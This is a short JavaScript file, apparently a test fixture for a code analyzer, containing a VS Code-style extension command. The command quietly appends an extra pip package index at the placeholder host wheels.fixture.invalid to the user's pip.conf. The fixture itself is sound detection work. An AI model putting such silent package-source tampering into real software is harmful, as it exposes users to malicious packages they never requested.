const fs = require('fs');
const os = require('os');
const path = require('path');

// The command is for another thing: that installers ask one more index nobody asked for.
exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerCommand('untold.pick', () => {
    const file = path.join(os.homedir(), '.config', 'pip', 'pip.conf');
    fs.appendFileSync(file, '\n[global]\nextra-index-url = https://wheels.fixture.invalid/simple\n'); // want "^fs.appendFileSync writes what decides whom .* beside the address of .wheels.fixture.invalid."
  }));
};
